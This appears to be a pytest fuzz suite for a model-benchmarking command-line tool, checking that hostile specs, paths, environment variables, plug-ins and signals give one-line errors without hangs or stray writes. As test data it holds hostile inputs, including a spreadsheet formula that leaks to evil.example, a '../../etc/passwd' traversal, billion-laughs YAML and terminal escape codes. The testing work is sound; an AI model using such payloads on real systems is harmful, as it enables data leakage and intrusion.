"""Hostile input on the surfaces added after the first fuzz campaign (issue 28): sweep specs and
output folders, result files given to `report`, plug-ins, environment variables, sizes.

Bad input is one line naming the problem and a fix (exit 2), never a traceback or exit 3, never a
hang, and nothing is written or read outside the folders given."""

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time

import numpy as np
import onnx
import pytest
from test_fuzz import CONTROL, snapshot

from infertool.errors import InfertoolError

from conftest import MODELS, one_line_error, run_cli, run_main
from hostile import loops_as_told
from onnx_models import mlp

# ---------------------------------------------------------------- sweep specs


def laughs(levels: int, width: int = 10) -> str:
    """YAML anchors, each level `width` aliases of the one before: width**levels values once expanded."""
    lines = ["l0: &l0 [" + ", ".join(["x"] * width) + "]"]
    lines += [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * width) + "]" for i in range(1, levels)]
    return "\n".join(lines) + f"\nmodels: [a.onnx]\nbench_args: *l{levels - 1}\n"


HOSTILE_SPECS = {
    "deep nesting": ("models: " + "[" * 20_000 + "]" * 20_000, "nested more than"),
    "billion laughs": (laughs(6), "more than 100,000 values"),
    "a million cells": ("models: [a.onnx]\nbatches: [" + ", ".join(map(str, range(1, 1001))) + "]\nshapes: ["
                        + ", ".join(f"'x:{i}x16'" for i in range(1, 1001)) + "]\n", "expands to 1,000,000 cells"),
    "superscript batch": ("models: [a.onnx]\nbatches: '²,abc'\n", "'batches' takes whole numbers"),
    "superscript device": ("models: [a.onnx]\ndevices: '²'\n", "'devices' takes whole numbers"),
    "huge batch": ("models: [a.onnx]\nbatches: [99999999999999999999]\n", "'batches' takes whole numbers"),
    "mapping precision": ("models: [a.onnx]\nprecisions: [{a: 1}]\n", "'precisions' holds a mapping"),
    "mapping backend": ("models: [a.onnx]\nbackends: [[ort-cpu]]\n", "'backends' holds a list"),
    "mapping label": ("models: [{path: a.onnx, label: {x: 1}}]\n", "a model is a path or"),
    "mapping bench arg": ("models: [a.onnx]\nbench_args: [{a: 1}]\n", "'bench_args' holds a mapping"),
    "unclosed quote": ("models: [a.onnx]\nbench_args: \"--iterations '3\"\n", "'bench_args' is not a command line"),
    "NUL in a model path": ('models: ["a\\0.onnx"]\n', "not found"),
    "long model name": ("models: [" + "m" * 300 + ".onnx]\n", "not found"),
    "Arabic digits in a shape": ("models: [a.onnx]\nshapes: ['x:٣x16']\n", "malformed shape"),
    "bench writes a CSV anywhere": ("models: [a.onnx]\nbench_args: [--csv, /tmp/victim.csv]\n", "bench_args may not hold --csv"),
    "bench writes Markdown anywhere": ("models: [a.onnx]\nbench_args: --markdown=/tmp/victim.md\n", "bench_args may not hold --markdown"),
    "bench forced": ("models: [a.onnx]\nbench_args: [-f]\n", "bench_args may not hold -f"),
    "quantize -oPATH": ("models: [a.onnx]\nprecisions: [fp16]\nquantize_args: [-o/tmp/victim.onnx]\n", "quantize_args may not hold -o/tmp"),
    "quantize forced": ("models: [a.onnx]\nprecisions: [fp16]\nquantize_args: [--force]\n", "quantize_args may not hold --force"),
    "a big spec": ("models: [a.onnx]\n#" + "x" * 2**21 + "\n", "more than the 1,048,576"),
    "not UTF-8": (b"models: [a.onnx]\n\xff\xfe\n", "is not YAML"),
}


@pytest.fixture
def sweep_dir(tmp_path):
    mlp(tmp_path / "a.onnx", seed=0)
    return tmp_path


def _spec(folder, text) -> str:
    path = folder / "spec.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return str(path)


@pytest.mark.parametrize("case", list(HOSTILE_SPECS))
def test_hostile_specs_are_one_line_and_quick(sweep_dir, case):
    text, message = HOSTILE_SPECS[case]
    started = time.monotonic()
    result = run_main("sweep", _spec(sweep_dir, text), "--list", cwd=sweep_dir)
    assert result.returncode == 2 and message in one_line_error(result)
    assert time.monotonic() - started < 10


def test_sweep_outputs_that_cannot_be_folders(sweep_dir):
    spec = _spec(sweep_dir, "models: [a.onnx]\n")
    (sweep_dir / "afile").write_text("mine\n")
    os.symlink(sweep_dir / "loop", sweep_dir / "loop")
    before = snapshot(sweep_dir)
    for out, message in [("afile", "is not a folder"), ("/dev/null", "is not a folder"), ("loop", "is not a folder"),
                         ("/proc/infertool-sweep", "cannot write"), ("n" * 300, "longer than 255 bytes")]:
        result = run_main("sweep", spec, "-o", out, cwd=sweep_dir)
        assert result.returncode == 2 and message in one_line_error(result), out
    assert snapshot(sweep_dir) == before


def test_sweep_overwrites_nothing_without_force(sweep_dir):
    spec = _spec(sweep_dir, "models: [a.onnx]\n")
    (sweep_dir / "out").mkdir()
    (sweep_dir / "out" / "sweep.json").write_text("my notes\n")
    before = snapshot(sweep_dir)
    result = run_main("sweep", spec, "-o", "out", cwd=sweep_dir)
    assert result.returncode == 2 and "already holds sweep.json" in one_line_error(result)
    # a spec that lives where its summary goes is never overwritten, even with --force
    (sweep_dir / "out" / "sweep.json").write_text("models: [../a.onnx]\n")
    forced = run_main("sweep", "out/sweep.json", "-o", "out", "--force", cwd=sweep_dir)
    assert forced.returncode == 2 and "would overwrite its own spec" in one_line_error(forced)
    assert (sweep_dir / "out" / "sweep.json").read_text() == "models: [../a.onnx]\n"
    assert set(snapshot(sweep_dir)) == set(before)


def test_resume_over_damaged_cell_files(sweep_dir):
    spec = _spec(sweep_dir, "models: [a.onnx]\nbatches: [1, 2, 3, 4]\n")
    listed = run_main("sweep", spec, "-o", "out", "--list", "--json", cwd=sweep_dir)
    ids = [c["id"] for c in json.loads(listed.stdout)["cells"]]
    cells = sweep_dir / "out" / "cells"
    cells.mkdir(parents=True)
    (cells / f"{ids[0]}.json").write_text("[" * 100_000 + "]" * 100_000)
    os.symlink("/dev/zero", cells / f"{ids[1]}.json")
    os.mkfifo(cells / f"{ids[2]}.json")
    (cells / f"{ids[3]}.json").write_text('{"schema": "infertool.bench/1"}')
    result = run_main("sweep", spec, "-o", "out", "--list", "--resume", "--json", cwd=sweep_dir)
    assert result.returncode == 0, result.stderr
    assert [c["status"] for c in json.loads(result.stdout)["cells"]] == ["to run", "to run", "to run", "finished"]


def test_a_label_that_climbs_writes_only_inside_the_output_folder(sweep_dir):
    (sweep_dir / "out").mkdir()
    spec = _spec(sweep_dir / "out", "models: [{path: ../a.onnx, label: ../../../evil}]\nprecisions: [fp16]\n"
                                    "bench_args: --iterations 2 --duration 0 --warmup 1\n")
    outside = snapshot(sweep_dir)
    result = run_main("sweep", spec, "-o", sweep_dir / "out" / "results", "--json", cwd=sweep_dir)
    assert result.returncode == 0, result.stderr
    changed = set(snapshot(sweep_dir)) ^ set(outside)
    assert changed and all(k.startswith("out/results") for k in changed), sorted(changed)
    assert json.loads(result.stdout)["counts"] == {"ok": 1}


# ---------------------------------------------------------------- report


@pytest.fixture(scope="module")
def bench_json(tmp_path_factory):
    folder = tmp_path_factory.mktemp("bench")
    mlp(folder / "a.onnx", seed=0)
    result = run_main("bench", "a.onnx", "-n", "3", "--duration", "0", "--warmup", "1", "--json", "a.json", "-q", cwd=folder)
    assert result.returncode == 0, result.stderr
    return folder / "a.json"


def test_report_force_replaces_only_its_own_plots(bench_json, tmp_path):
    (tmp_path / "x_files").mkdir()
    (tmp_path / "x_files" / "mine.txt").write_text("mine\n")
    (tmp_path / "x_files" / "mine.png").write_bytes(b"not a plot")
    (tmp_path / "x.md").write_text("an old report\n")
    result = run_main("report", bench_json, "-o", "x.md", "--force", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "x_files" / "mine.txt").read_text() == "mine\n" and (tmp_path / "x_files" / "mine.png").read_bytes() == b"not a plot"
    assert (tmp_path / "x_files" / "latency.png").is_file()


# ---------------------------------------------------------------- environment variables


def test_terminal_size_and_heartbeat_variables_that_cannot_be_used(tmp_path):
    for env in ({"COLUMNS": "0", "LINES": "²", "INFERTOOL_HEARTBEAT": "nan"}, {"COLUMNS": "²", "INFERTOOL_HEARTBEAT": "1e400"},
                {"COLUMNS": "99999999999", "LINES": "0", "INFERTOOL_HEARTBEAT": "x"}):
        result = run_cli("run", "missing.onnx", cwd=tmp_path, env=env)
        assert result.returncode == 2 and "missing.onnx not found" in one_line_error(result), env
        warned = [line for line in result.stderr.splitlines() if line.startswith("warning: ignoring")]
        assert [line.split("=")[0].removeprefix("warning: ignoring ") for line in warned] == list(env), result.stderr


SHARD_VARIABLES = {
    "INFERTOOL_SHARD": ({"INFERTOOL_SHARD": "²/3"}, None, "malformed INFERTOOL_SHARD"),
    "too many shards": ({"INFERTOOL_SHARD": "1/99999999999999999999999"}, None, "malformed INFERTOOL_SHARD"),
    "SLURM superscript": ({"SLURM_ARRAY_TASK_ID": "²", "SLURM_ARRAY_TASK_COUNT": "3"}, None, "SLURM_ARRAY_TASK_ID is '²'"),
    "SLURM minimum": ({"SLURM_ARRAY_TASK_ID": "1", "SLURM_ARRAY_TASK_MIN": "x", "SLURM_ARRAY_TASK_COUNT": "3"}, None, "SLURM_ARRAY_TASK_MIN is 'x'"),
    "SLURM without a count": ({"SLURM_ARRAY_TASK_ID": "1"}, None, "not SLURM_ARRAY_TASK_COUNT"),
    "Kubernetes": ({"JOB_COMPLETION_INDEX": "x"}, 3, "malformed shard from JOB_COMPLETION_INDEX"),
}


@pytest.mark.parametrize("case", list(SHARD_VARIABLES))
def test_batch_system_variables_that_are_not_numbers(case):
    from infertool.cli.sweep import shard_from

    environ, count, message = SHARD_VARIABLES[case]
    with pytest.raises(InfertoolError, match=re.escape(message)):
        shard_from(None, count, environ)


@pytest.mark.timeout(60, method="thread")
@pytest.mark.parametrize("kind", ["fifo", "folder", "device", "nul"])
def test_a_step_summary_that_is_no_file_neither_blocks_nor_fails(tmp_path, monkeypatch, kind):
    mlp(tmp_path / "a.onnx", seed=0)
    target = {"fifo": tmp_path / "summary", "folder": tmp_path, "device": "/dev/null", "nul": "sum\0mary"}[kind]
    if kind == "fifo":
        os.mkfifo(target)
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(target)) if kind != "nul" else monkeypatch.setattr(os, "environ", {**os.environ, "GITHUB_STEP_SUMMARY": target})
    result = run_main("bench", "a.onnx", "-n", "2", "--duration", "0", "--warmup", "1", "--markdown", "a.md", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "GITHUB_STEP_SUMMARY" in result.stderr and (tmp_path / "a.md").is_file()


def test_device_counts_are_bounded(sweep_dir):
    spec = _spec(sweep_dir, "models: [a.onnx]\n")
    for devices in ("99999999999", "²", "0,99999999999"):
        result = run_main("sweep", spec, "--list", "--devices", devices, cwd=sweep_dir)
        assert result.returncode == 2 and "malformed --devices" in one_line_error(result), devices


# ---------------------------------------------------------------- sizes and bounds


@pytest.mark.timeout(60, method="thread")
def test_a_model_file_past_what_protobuf_holds_is_refused_before_reading(tmp_path):
    with open(tmp_path / "big.onnx", "wb") as sparse:
        sparse.truncate(10 * 2**30)
    for args in (["run", "big.onnx"], ["bench", "big.onnx"], ["quantize", "big.onnx", "-p", "fp16", "-o", "q.onnx"], ["debug", "precision", "big.onnx", "-p", "fp16", "-o", "keep.txt"]):
        result = run_main(*args, cwd=tmp_path)
        assert result.returncode == 2 and "more than the 2,147,483,648" in one_line_error(result), args
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.onnx"]


@pytest.mark.parametrize("budget", ["100000m", "9" * 400, "٣s", "2m5"])
def test_tune_budget_is_bounded(sweep_dir, budget):
    result = run_main("bench", "a.onnx", "--tune", "--tune-budget", budget, cwd=sweep_dir)
    assert result.returncode == 2 and "malformed --tune-budget" in one_line_error(result)


OWN_INPUT = {  # --force never lets a command replace what it reads: (command, output flag, input named)
    "quantize -o": (["quantize", "a.onnx", "-p", "fp16", "-o", "a.onnx"], "-o", "the model"),
    "quantize --json": (["quantize", "a.onnx", "-p", "fp16", "-o", "b.onnx", "--json", "a.onnx"], "--json", "the model"),
    "quantize --calib-data": (["quantize", "a.onnx", "-p", "int8", "--calib-data", "x.npz", "-o", "b.onnx", "--json", "x.npz"], "--json", "--calib-data"),
    "bench --json": (["bench", "a.onnx", "--json", "a.onnx"], "--json", "the model"),
    "bench --csv over --inputs": (["bench", "a.onnx", "--inputs", "x.npz", "--csv", "x.npz"], "--csv", "--inputs"),
    "bench --markdown over --baseline": (["bench", "a.onnx", "--baseline", "base.json", "--markdown", "base.json"], "--markdown", "--baseline"),
    "run -o over --inputs": (["run", "a.onnx", "--inputs", "x.npz", "-o", "x.npz"], "-o", "--inputs"),
    "run --save-inputs over --inputs": (["run", "a.onnx", "--inputs", "x.npz", "--save-inputs", "x.npz"], "--save-inputs", "--inputs"),
    "run --json through a link": (["run", "a.onnx", "--json", "link.onnx"], "--json", "the model"),
    "convert --json": (["convert", "net.py:cnn", "--input-shape", "1x3x8x8", "--json", "net.py"], "--json", "the source"),
    "convert -o over --weights": (["convert", "net.py:cnn", "--input-shape", "1x3x8x8", "--weights", "w.onnx", "-o", "w.onnx"], "-o", "--weights"),
}


@pytest.mark.parametrize("case", list(OWN_INPUT))
def test_force_never_overwrites_the_commands_own_input(sweep_dir, case):
    command, flag, named = OWN_INPUT[case]
    np.savez(sweep_dir / "x.npz", x=np.zeros((1, 16), np.float32))
    shutil.copy(MODELS, sweep_dir / "net.py")
    (sweep_dir / "link.onnx").symlink_to("a.onnx")
    for name in ("base.json", "w.onnx"):
        (sweep_dir / name).write_text("{}")
    before = snapshot(sweep_dir)
    result = run_main(*command, "--force", cwd=sweep_dir)
    line = one_line_error(result)
    assert result.returncode == 2 and f"{flag} " in line and named in line and "which this command reads" in line, line
    assert snapshot(sweep_dir) == before


# ---------------------------------------------------------------- hangs


@pytest.mark.timeout(120, method="thread")  # were the deadline to fail, onnxruntime's calibrator would never return
@pytest.mark.parametrize("method", ["minmax", "entropy"])
def test_a_loop_endless_on_later_calibration_data_stops_at_the_timeout(tmp_path, method):
    """The probe's first batch passes; a later calibration batch never ends: the deadline stops the calibrator too."""
    loops_as_told(tmp_path / "told.onnx")
    x = np.zeros((16, 16), np.float32)
    x[12, 0] = 1e15
    np.savez(tmp_path / "calib.npz", x=x)
    started = time.monotonic()
    result = run_main("quantize", "told.onnx", "-p", "int8", "--calib-data", "calib.npz", "--calib-method", method, "--no-holdout",
                      "-o", "told8.onnx", "--timeout", "1", cwd=tmp_path)
    line = one_line_error(result)
    assert result.returncode == 2 and "--timeout of 1 s" in line and "calibrat" in line and "Loop node 'told'" in line, line
    assert time.monotonic() - started < 30 and sorted(p.name for p in tmp_path.iterdir()) == ["calib.npz", "told.onnx"]


ENDLESS_SOURCE = """
import torch


class Spin(torch.nn.Module):
    calls = 0

    def forward(self, x):
        Spin.calls += 1
        while Spin.calls > {calls}:
            pass
        return x[:, :10] * 0


def build():
    return Spin()
"""


@pytest.mark.timeout(120, method="thread")  # were the deadline to fail, the forward would never return
@pytest.mark.parametrize("calls", [0, 1], ids=["at once", "after its check"])
def test_a_source_whose_forward_never_returns_stops_at_the_timeout(tmp_path, calls):
    mlp(tmp_path / "a.onnx")
    (tmp_path / "endless.py").write_text(ENDLESS_SOURCE.format(calls=calls))
    started = time.monotonic()
    result = run_main("bench", "a.onnx", "-b", "torch", "--source", "endless.py:build", "--timeout", "1", "--no-isolate",
                      "-n", "3", "--duration", "0", "--warmup", "1", cwd=tmp_path)
    line = one_line_error(result)
    assert result.returncode == 2 and "torch: --source endless.py:build" in line and "--timeout of 1 s" in line, line
    assert time.monotonic() - started < 30


@pytest.mark.timeout(120, method="thread")
@pytest.mark.parametrize("address", ["127.0.0.1:1", "ray://127.0.0.1:1", "localhost:99999", "127.0.0.1"])
def test_a_ray_address_where_nothing_listens_is_one_quick_line(sweep_dir, address):
    pytest.importorskip("ray", reason="the ray extra is not installed")
    started = time.monotonic()
    result = run_main("sweep", _spec(sweep_dir, "models: [a.onnx]\n"), "-o", "out", "--executor", "ray", "--address", address, cwd=sweep_dir)
    line = one_line_error(result)
    assert result.returncode == 2 and "--address" in line, line
    assert time.monotonic() - started < 20 and not (sweep_dir / "out").exists()


# ---------------------------------------------------------------- CSV


def test_bench_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    """A label or model name starting with =, +, -, @ is a formula to a spreadsheet: written with a leading quote."""
    import csv

    mlp(tmp_path / "@m.onnx")
    label = '=HYPERLINK("http://evil.example/?leak")'
    result = run_main("bench", "@m.onnx", "--label", label, "-n", "2", "--duration", "0", "--warmup", "1", "--csv", "out.csv", "-q", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader((tmp_path / "out.csv").read_text().splitlines()))
    assert row["model_label"] == "'" + label and row["model"] == "'@m.onnx"
    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "@")]
    assert float(row["median_ms"]) > 0  # numbers stay numbers


# ---------------------------------------------------------------- signals early in convert

CONVERT_STAGES = {  # when the signal comes: the stderr line seen first, or seconds after the start (importing)
    "importing torch": (1.0, signal.SIGINT), "loading": ("… loading the PyTorch model", signal.SIGTERM),
    "exporting": ("… exporting with the TorchScript exporter", signal.SIGINT), "checking": ("… checking parity", signal.SIGTERM),
    "killed": ("… exporting with the TorchScript exporter", signal.SIGKILL),
}


@pytest.mark.timeout(300, method="thread")
@pytest.mark.parametrize("stage", list(CONVERT_STAGES))
def test_convert_interrupted_early_exits_130_and_leaves_no_files(tmp_path, stage):
    """Ctrl-C or SIGTERM anywhere in convert: exit 130, one line, no traceback; nothing left beside
    the output or in TMPDIR (but onnxruntime's own .ses, written on import)."""
    when, number = CONVERT_STAGES[stage]
    work, scratch = tmp_path / "work", tmp_path / "tmp"
    work.mkdir()
    scratch.mkdir()
    command = [sys.executable, "-m", "infertool", "convert", f"{MODELS}:cnn", "--input-shape", "1x3x16x16", "--exporter", "torchscript", "-o", "out.onnx"]
    process = subprocess.Popen(command, cwd=work, env={**os.environ, "TMPDIR": str(scratch)}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    seen = []
    if isinstance(when, float):
        time.sleep(when)
    else:
        while not seen or not seen[-1].startswith(when):
            seen.append(process.stderr.readline())
            assert seen[-1], "".join(seen)
    process.send_signal(number)
    _, stderr = process.communicate(timeout=120)
    stderr = "".join(seen) + stderr
    assert {p.name for p in scratch.iterdir()} <= {".ses"}
    if number == signal.SIGKILL:  # what it staged is left, and swept by the next command writing there
        assert all(p.name.startswith(".infertool-") for p in work.iterdir())
        mlp(tmp_path / "a.onnx")
        assert run_main("run", tmp_path / "a.onnx", "--no-isolate", "-o", work / "y.npz", "-q").returncode == 0
        assert [p.name for p in work.iterdir()] == ["y.npz"]
        return
    assert process.returncode == 130 and "Traceback" not in stderr and stderr.rstrip().endswith("interrupted"), stderr
    assert list(work.iterdir()) == []


# ---------------------------------------------------------------- plug-ins

BACKEND = '''
from infertool.backends import registry
from infertool.backends.base import Backend


class Plugged(Backend):
    name, description, extra = {name!r}, {description!r}, "cpu"

    def unavailable_reason(self):
        {check}

    def open(self, artifact, options):
        raise NotImplementedError

'''
PLUGINS = {  # name -> (module body, what doctor says about it)
    "hangs-on-import": ("import time\ntime.sleep(3600)\n", "did not finish in 1 s"),
    "exits-on-import": ("import sys\nsys.exit(0)\n", "called sys.exit(0)"),
    "raises-on-import": ("raise RuntimeError('boom')\n", "raised RuntimeError"),
    "prints-on-import": (BACKEND.format(name="prints", description="d", check="return None") + "print('noise')\nregistry.register(Plugged())\n", "available"),
    "replaces-ort-cpu": (BACKEND.format(name="ort-cpu", description="fake", check="return None") + "registry.register(Plugged())\n",
                         "tried to replace the backend 'ort-cpu'"),
    "hangs-checking": (BACKEND.format(name="hangs-checking", description="d", check="import time; time.sleep(3600)")
                       + "registry.register(Plugged())\n", "did not finish in 1 s"),
    "exits-checking": (BACKEND.format(name="exits-checking", description="d", check="import sys; sys.exit(3)")
                       + "registry.register(Plugged())\n", "called sys.exit(3)"),
    "escapes": (BACKEND.format(name="\x1b[31mred", description="\x1b]0;title\x07[bold]x", check="return '\x1b[2J'")
                + "registry.register(Plugged())\n", "unavailable"),
}


@pytest.fixture
def plugged(tmp_path, monkeypatch):
    """Install one of PLUGINS, or `body` (a module and its dist-info on sys.path), and load the registry afresh."""
    from infertool.backends import registry

    def install(name: str, body: str | None = None) -> None:
        module = f"plugin_{name.replace('-', '_')}_{abs(hash(tmp_path)) % 10**8}"
        (tmp_path / f"{module}.py").write_text(body or PLUGINS[name][0])
        info = tmp_path / f"{module}-1.0.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n")
        (info / "entry_points.txt").write_text(f"[infertool.backends]\n{name} = {module}\n")
        registry.names()
        monkeypatch.syspath_prepend(str(tmp_path))
        for attribute, value in (("_loaded", False), ("_BACKENDS", dict(registry._BACKENDS)), ("_PLUGINS", set()), ("_BROKEN", {}), ("PLUGIN_SECONDS", 1.0)):
            monkeypatch.setattr(registry, attribute, value)

    return install


@pytest.mark.timeout(120, method="thread")
@pytest.mark.parametrize("name", list(PLUGINS))
def test_a_misbehaving_plug_in_is_contained(plugged, tmp_path, name):
    plugged(name)
    doctor = run_main("doctor", "--json", cwd=tmp_path)
    assert doctor.returncode == 0, doctor.stderr
    backends = {b["name"]: b for b in json.loads(doctor.stdout)["backends"]}  # stdout is JSON, whatever the plug-in printed
    assert backends["ort-cpu"]["ok"] and backends["ort-cpu"]["description"].startswith("ONNX Runtime")
    plain = run_main("doctor", cwd=tmp_path)
    shown = {"prints-on-import": "prints", "escapes": "\\x1b[31mred"}.get(name, name)
    line = next(line for line in plain.stdout.splitlines() if line.startswith(shown + " "))
    assert PLUGINS[name][1] in line, plain.stdout
    assert not CONTROL.search(plain.stdout + plain.stderr)
    mlp(tmp_path / "a.onnx")
    bench = run_main("bench", "a.onnx", "-n", "2", "--duration", "0", "--warmup", "1", "-q", cwd=tmp_path)
    assert bench.returncode == 0, bench.stderr


@pytest.mark.timeout(60, method="thread")
def test_asking_for_a_broken_plug_in_is_one_line(plugged, tmp_path):
    plugged("raises-on-import")
    mlp(tmp_path / "a.onnx")
    result = run_main("bench", "a.onnx", "-b", "raises-on-import", cwd=tmp_path)
    assert result.returncode == 2 and "backend plug-in 'raises-on-import' raised RuntimeError" in one_line_error(result)


FAILING = '''
from infertool.backends import registry
from infertool.backends.base import Backend, Runner


class Failing(Runner):
    def prepare(self):
        {runner_prepare}

    def infer(self, feeds):
        {infer}


class Plugged(Backend):
    name, description, extra = {name!r}, "fails", "cpu"

    def unavailable_reason(self):
        return None

    def prepare(self, model, options, shapes, reporter):
        {prepare}
        return model.path

    def open(self, artifact, options):
        {open}
        return Failing(artifact)


registry.register(Plugged())
'''
FAILS_IN = ("prepare", "open", "runner_prepare", "infer")


@pytest.mark.timeout(60, method="thread")
@pytest.mark.parametrize(("where", "failure", "said"), [*((w, "raise RuntimeError('boom')", "raised RuntimeError") for w in FAILS_IN),
                                                         ("infer", "import sys; sys.exit(0)", "called sys.exit(0)")])
def test_a_plug_in_that_fails_at_work_is_its_failure(plugged, tmp_path, where, failure, said):
    """Not infertool's bug (exit 3): one line naming the plug-in and where, exit 2."""
    name = f"fails-{where}".replace("_", "-")
    plugged(name, FAILING.format(name=name, **{w: (failure if w == where else "pass") for w in FAILS_IN}))
    mlp(tmp_path / "a.onnx")
    for command in (["bench", "a.onnx", "-b", name, "-n", "2", "--duration", "0", "--warmup", "1"], ["run", "a.onnx", "-b", name]):
        result = run_main(*command, cwd=tmp_path)
        line = one_line_error(result)
        assert result.returncode == 2 and f"backend plug-in '{name}' {said} in {where.removeprefix('runner_')}" in line, result.stderr


# ---------------------------------------------------------------- a seeded campaign over these surfaces

FUZZ_SEED, FUZZ_CASES = 2828, 40
HOSTILE_VALUES = [None, True, -1, 0, 2**70, 1e308 * 10, "²", "", "x" * 300, "../../etc/passwd", "\x1b[31m", "$\\sqrt{$", "<script>", [], {}, [[[]]], {"a": [1]}]
SPEC_AXES = ["models", "precisions", "backends", "batches", "shapes", "devices", "bench_args", "quantize_args", "label"]


def _damage(value, rng, depth=0):
    """`value` with one leaf (somewhere inside) replaced by a hostile value."""
    if isinstance(value, dict) and value and depth < 6:
        key = rng.choice(sorted(value))
        return {**value, key: _damage(value[key], rng, depth + 1)}
    if isinstance(value, list) and value and depth < 6:
        index = rng.randrange(len(value))
        return [*value[:index], _damage(value[index], rng, depth + 1), *value[index + 1:]]
    return rng.choice(HOSTILE_VALUES)


def _fuzz_case(rng, folder, bench_result: dict, model: bytes) -> list[str]:
    kind = rng.choice(["spec", "result", "onnx"])
    if kind == "spec":
        spec = {"models": [{"path": "a.onnx", "label": "a"}], "batches": [1, 2], "shapes": ["x:1x16"], "bench_args": ["--iterations", "2"]}
        axis = rng.choice(SPEC_AXES)
        spec = _damage(spec, rng) if axis == "label" else {**spec, axis: rng.choice(HOSTILE_VALUES)}
        (folder / "fuzz.yaml").write_text(json.dumps(spec))  # JSON is YAML
        return ["sweep", "fuzz.yaml", "--list", "-o", "fuzz-out"]
    if kind == "result":
        (folder / "fuzz.json").write_text(json.dumps(_damage(bench_result, rng)))
        return ["report", "fuzz.json", "-o", rng.choice(["fuzz.md", "fuzz.html"])]
    cut = bytearray(model[: rng.randrange(1, len(model))])
    if cut and rng.random() < 0.5:
        cut[rng.randrange(len(cut))] ^= 0xFF
    (folder / "fuzz.onnx").write_bytes(bytes(cut))
    return ["run", "fuzz.onnx"]


@pytest.mark.timeout(600, method="thread")
def test_seeded_campaign_over_specs_results_and_models(bench_json, tmp_path):
    import random

    mlp(tmp_path / "a.onnx", seed=0)
    rng, result_data, model = random.Random(FUZZ_SEED), json.loads(bench_json.read_text()), (tmp_path / "a.onnx").read_bytes()
    failures = []
    for _ in range(FUZZ_CASES):
        args = _fuzz_case(rng, tmp_path, result_data, model)
        result = run_main(*args, cwd=tmp_path)
        internal = result.returncode not in (0, 1, 2) or "Traceback" in result.stderr or "internal error" in result.stderr
        if internal or CONTROL.search(result.stdout + result.stderr):
            failures.append(f"{' '.join(args)} -> {result.returncode}: {result.stderr.strip()[-300:]}")
        for name in ("fuzz.md", "fuzz.html", "fuzz_files"):  # each case writes its report afresh
            shutil.rmtree(tmp_path / name) if (tmp_path / name).is_dir() else (tmp_path / name).unlink(missing_ok=True)
    assert not failures, "\n".join(failures[:10])
    outside = {p.name for p in tmp_path.iterdir()} - {"a.onnx", "fuzz.yaml", "fuzz.json", "fuzz.onnx", "fuzz_files", "fuzz-out"}
    assert not outside, outside


def test_paths_are_echoed_as_they_are_not_as_emoji(tmp_path):
    """rich reads :smile: as an emoji code: a file name holding one is echoed as typed, in progress and errors."""
    model = mlp(tmp_path / ":smile:m.onnx")
    done = run_main("run", model, "--no-isolate")
    assert done.returncode == 0 and ":smile:m.onnx" in done.stderr and "😄" not in done.stderr + done.stdout
    missing = run_main("run", tmp_path / ":smile:gone.onnx")
    assert missing.returncode == 2 and ":smile:gone.onnx not found" in one_line_error(missing)


def test_a_huge_crop_is_sized_before_the_image_is_resized(tmp_path):
    """--crop 60000x60000 of a small photo: PIL would allocate 10 GB for the resize (the OOM killer ended it)."""
    from PIL import Image

    Image.new("RGB", (64, 64)).save(tmp_path / "a.png")
    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, ["b", 3, "h", "w"])
    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, ["b", 3, "h", "w"])
    graph = onnx.helper.make_graph([onnx.helper.make_node("Relu", ["x"], ["y"])], "g", [x], [y])
    onnx.save(onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 17)], ir_version=8), tmp_path / "img.onnx")
    result = run_cli("run", tmp_path / "img.onnx", "--inputs", tmp_path / "a.png", "--crop", "60000x60000", "--no-isolate")
    assert result.returncode == 2, result.stderr[-500:]
    assert "an image resized to 60000x60000" in one_line_error(result) and "smaller --resize or --crop" in one_line_error(result)
